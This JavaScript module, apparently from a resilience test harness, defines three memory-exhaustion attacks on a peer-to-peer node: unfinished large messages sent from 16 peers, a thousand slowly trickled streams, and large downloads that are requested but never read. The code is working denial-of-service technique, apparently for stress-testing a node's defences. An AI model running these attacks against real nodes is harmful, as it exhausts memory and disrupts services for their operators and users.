/** What a node keeps for peers that do not go on. */
import * as frames from "../kit/frames.mjs"
import { paced, sleep } from "../kit/pace.mjs"
import { connect } from "../kit/peer.mjs"
import * as wire from "../kit/wire.mjs"

const chunk = new Uint8Array(64 << 10)

/** Bytes of each unfinished message, and how many a peer begins. */
const part = 55 << 20
const parts = 2

/** Payloads of the size that loopback carries: the attack is about memory, not about packets. */
const maxPayload = 16_383

/** Sends the header of a message of 64 MiB on each stream, and then 55 MiB. */
const partialMessages = async ({ hosts, node, seconds }, count) => {
  let bytes = 0
  const peers = await Promise.all(
    Array.from({ length: count }, (_, i) => connect(node, { host: hosts(i), honest: true, maxPayload }))
  )
  const ids = Array.from({ length: parts }, (_, i) => 2 + 4 * i)
  for (const peer of peers) {
    peer.left = ids.map(() => part)
    for (const id of ids) peer.native.streamSend(id, wire.messageHeader(64 << 20), false)
    peer.onHeard = () => {
      for (const [i, id] of ids.entries()) {
        while (peer.left[i] > 0) {
          let taken
          try {
            taken = peer.native.streamSend(id, chunk, false)
          } catch {
            peer.left[i] = 0
          }
          if (!taken) break
          peer.left[i] -= taken
          bytes += taken
        }
      }
    }
  }
  const end = performance.now() + seconds * 6_000
  while (performance.now() < end && peers.some(({ left, native }) => !native.isClosed() && left.some((x) => x > 0))) {
    for (const peer of peers) {
      if (peer.native.isClosed()) continue
      peer.onHeard()
      peer.flush()
    }
    await sleep(5)
  }
  await sleep(1_000)
  const closed = peers.filter(({ native }) => native.isClosed()).length
  for (const peer of peers) peer.vanish()
  return { megabytes: bytes / 2 ** 20, closed }
}

/** Opens as many streams as the node allows, and sends one byte on each in every second. */
const trickle = async ({ hosts, node, seconds }) => {
  const peer = await connect(node, { host: hosts(0) })
  const streams = 1_000
  const header = wire.messageHeader(60 << 20)
  for (let i = 0; i < streams; i++) {
    peer.send(frames.stream(2 + 4 * i, 0, header))
    if (i % 40 === 0) await sleep(2)
  }
  await paced(seconds, streams, (i) => {
    peer.send(frames.stream(2 + 4 * (i % streams), header.length + Math.floor(i / streams)))
  })
  return { streams }
}

/** Asks for 16 MiB on each of 200 streams, opens every window, and neither reads nor acknowledges. */
const unreadAnswers = async ({ hosts, node, seconds }) => {
  const peer = await connect(node, { host: hosts(0) })
  peer.send(frames.maxData(2 ** 40))
  for (let i = 0; i < 200; i++) {
    const id = 4 * i
    peer.send(Buffer.concat([frames.stream(id, 0, wire.download(16 << 20), true), frames.maxStreamData(id, 2 ** 40)]))
    if (i % 20 === 0) await sleep(2)
  }
  await paced(seconds, 20, () => peer.send(frames.ping))
  return { megabytesHeard: peer.bytesHeard / 2 ** 20 }
}

export const attacks = {
  "partial messages of 16 peers": { run: (context) => partialMessages(context, 16) },
  "streams that trickle": { run: trickle },
  "answers that are not read": { run: unreadAnswers }
}
